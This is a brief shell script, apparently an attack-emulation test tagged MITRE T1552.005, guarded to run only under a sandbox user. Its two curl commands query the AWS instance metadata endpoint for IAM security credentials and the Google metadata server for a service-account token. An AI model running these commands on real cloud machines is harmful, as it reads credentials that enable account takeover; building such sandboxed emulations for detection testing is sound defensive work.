#!/bin/sh
# technique: T1552.005
# needs: curl
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/; curl -s -m 3 -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
